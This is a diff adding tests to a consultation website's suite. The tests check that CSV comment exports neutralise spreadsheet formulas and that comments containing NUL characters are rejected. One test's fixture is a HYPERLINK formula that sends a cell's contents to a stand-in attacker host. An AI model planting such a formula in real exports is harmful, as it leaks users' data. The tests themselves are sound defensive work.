@@ -1,5 +1,7 @@
 """The public consultation pages: commenting with JavaScript off, the close, withheld comments."""
 
+import csv
+import json
 import re
 from typing import Any
 
@@ -174,3 +176,28 @@ def test_the_list_downloads_the_public_dataset(consultation: Consultation) -> No
     assert response.status_code == 200
     body = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
     assert consultation.reference in body and "Commercially confidential" in body
+
+
+def test_the_comments_download_neutralises_a_formula_from_an_anonymous_comment(
+    consultation: Consultation, admin: User
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?q="&A1,"Read the annex")'
+    kept = comment(consultation, formula, name="@SUM(1,1)")
+    actions.moderate_comment(kept, accept=True, reason="", actor=admin)
+    past_close(consultation, close=True)
+    response = Client().get("/comments/?format=csv")
+    rows = list(csv.DictReader(response.getvalue().decode().splitlines()))
+    assert [(row["text"], row["name"]) for row in rows] == [("'" + formula, "'@SUM(1,1)")]
+    exact = Client().get("/comments/?format=json")
+    assert [row["text"] for row in json.loads(exact.getvalue())] == [formula]
+
+
+def test_it_refuses_a_nul_character_in_an_anonymous_comment_naming_the_field(
+    consultation: Consultation,
+) -> None:
+    client = Client()
+    data = _form(client, consultation) | {"text": "Refuse\x00 the licence.", "name": "A\x00"}
+    response = client.post(_url(consultation), data)
+    assert response.status_code == 400
+    assert response.content.decode().count('class="field-error"') == 2
+    assert not Comment.objects.exists()
